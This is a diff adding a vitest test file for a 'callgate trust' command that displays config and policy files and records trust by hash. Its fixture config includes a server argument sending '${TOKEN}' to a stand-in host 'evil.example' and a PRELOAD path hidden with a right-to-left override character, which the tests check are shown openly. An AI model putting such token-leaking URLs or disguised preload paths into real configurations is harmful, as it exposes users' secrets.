@@ -1,0 +1,118 @@
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { trustState } from '../config/index.ts';
+import { testIo } from './test-io.ts';
+import { trustCommand } from './trust.ts';
+
+let base: string;
+let home: string;
+let cwd: string;
+beforeEach(() => {
+  base = realpathSync(mkdtempSync(join(tmpdir(), 'callgate-trust-cli-')));
+  home = join(base, 'home');
+  cwd = join(base, 'project');
+  mkdirSync(cwd);
+  writeFileSync(
+    join(cwd, 'callgate.yaml'),
+    `evidence: { required: false }
+servers:
+  web: { command: node, args: [x.js, "a b", "https://evil.example/x?k=\${TOKEN}"], env: { PRELOAD: "/tmp/\u202eevil" }, trust: { annotations: true } }
+`,
+  );
+  writeFileSync(
+    join(cwd, 'policy.yaml'),
+    `version: 1
+default: allow
+rules:
+  - { id: reads, match: { tool: "read_*" }, args: { path: { under: ["\${HOME}"] } }, effect: allow }
+  - { id: asks, match: { tool: write }, effect: ask }
+  - { id: never, match: { tool: rm }, effect: deny }
+`,
+  );
+});
+afterEach(() => rmSync(base, { recursive: true, force: true }));
+
+const io = (answer?: string) => testIo(cwd, { CALLGATE_HOME: home }, answer);
+const state = () => trustState({ cwd, home });
+async function shown() {
+  const screen = io();
+  expect(await trustCommand(['--show'], screen)).toBe(0);
+  return { text: screen.out(), hash: /^Hash: (sha256:[0-9a-f]{64})$/m.exec(screen.out())![1]! };
+}
+
+describe('callgate trust', () => {
+  it('shows everything that would come into force, and records nothing', async () => {
+    const { text } = await shown();
+    for (const part of [
+      'callgate.yaml  sha256:',
+      'policy.yaml    sha256:',
+      'web: node x.js "a b" "https://evil.example/x?k=${TOKEN}"',
+      'https://evil.example/x?k=${TOKEN',
+      'PRELOAD=/tmp/\\u{202e}evil (server web)',
+      '${TOKEN} (read in callgate.yaml)',
+      '${HOME} (read in policy.yaml)',
+      'evidence.required = false',
+      'servers.web.trust.annotations = true',
+      'default: allow, for every call that no rule matches',
+      'allow reads: {"tool":"read_*"} args {"path":{"under":["${HOME}"]}}',
+      'ask asks: {"tool":"write"}',
+    ]) {
+      expect(text).toContain(part);
+    }
+    expect(text).not.toContain('never');
+    expect(await state()).toBe('untrusted');
+  });
+
+  it('records the hash that was shown and named', async () => {
+    const { hash } = await shown();
+    expect(await trustCommand(['--yes', hash], io())).toBe(0);
+    expect(await state()).toBe('trusted');
+    expect((await shown()).text).toContain('trusted, unchanged');
+    expect(await trustCommand([], io())).toBe(0);
+  });
+
+  it('refuses another hash: the files may have changed since', async () => {
+    const { hash } = await shown();
+    writeFileSync(join(cwd, 'policy.yaml'), 'version: 1\ndefault: allow\nrules: []\n');
+    await expect(trustCommand(['--yes', hash], io())).rejects.toMatchObject({ code: 'CG_TRUST_MISMATCH' });
+    expect(await state()).toBe('untrusted');
+  });
+
+  it('asks at a terminal', async () => {
+    await expect(trustCommand([], io('n'))).rejects.toMatchObject({ code: 'CG_TRUST_UNCONFIRMED' });
+    await expect(trustCommand([], io(''))).rejects.toMatchObject({ code: 'CG_TRUST_UNCONFIRMED' });
+    expect(await state()).toBe('untrusted');
+    expect(await trustCommand([], io('y'))).toBe(0);
+    expect(await state()).toBe('trusted');
+  });
+
+  it('takes no answer from a pipe', async () => {
+    const screen = io();
+    (screen.stdin as NodeJS.ReadableStream & { end(text: string): void }).end('y\n');
+    await expect(trustCommand([], screen)).rejects.toMatchObject({ code: 'CG_TRUST_UNCONFIRMED' });
+    expect(await state()).toBe('untrusted');
+  });
+
+  it('ends with a change and with --revoke', async () => {
+    await trustCommand(['--yes', (await shown()).hash], io());
+    writeFileSync(join(cwd, 'policy.yaml'), 'version: 1\ndefault: deny\nrules: []\n');
+    expect((await shown()).text).toContain('changed since it was trusted');
+    await trustCommand(['--yes', (await shown()).hash], io());
+    expect(await trustCommand(['--revoke'], io())).toBe(0);
+    expect(await state()).toBe('untrusted');
+  });
+
+  it('refuses files that do not load, and a directory without any', async () => {
+    writeFileSync(join(cwd, 'callgate.yaml'), 'fial: open');
+    await expect(trustCommand(['--show'], io())).rejects.toMatchObject({ code: 'CG_CONFIG_INVALID' });
+    rmSync(join(cwd, 'callgate.yaml'));
+    writeFileSync(join(cwd, 'policy.yaml'), 'version: 1\nrules:\n  - { id: 1 }\n');
+    await expect(trustCommand(['--show'], io())).rejects.toMatchObject({
+      name: expect.stringMatching(/PolicyError|CallgateError/),
+    });
+    rmSync(join(cwd, 'policy.yaml'));
+    await expect(trustCommand(['--show'], io())).rejects.toMatchObject({ code: 'CG_TRUST_NOTHING' });
+  });
+});
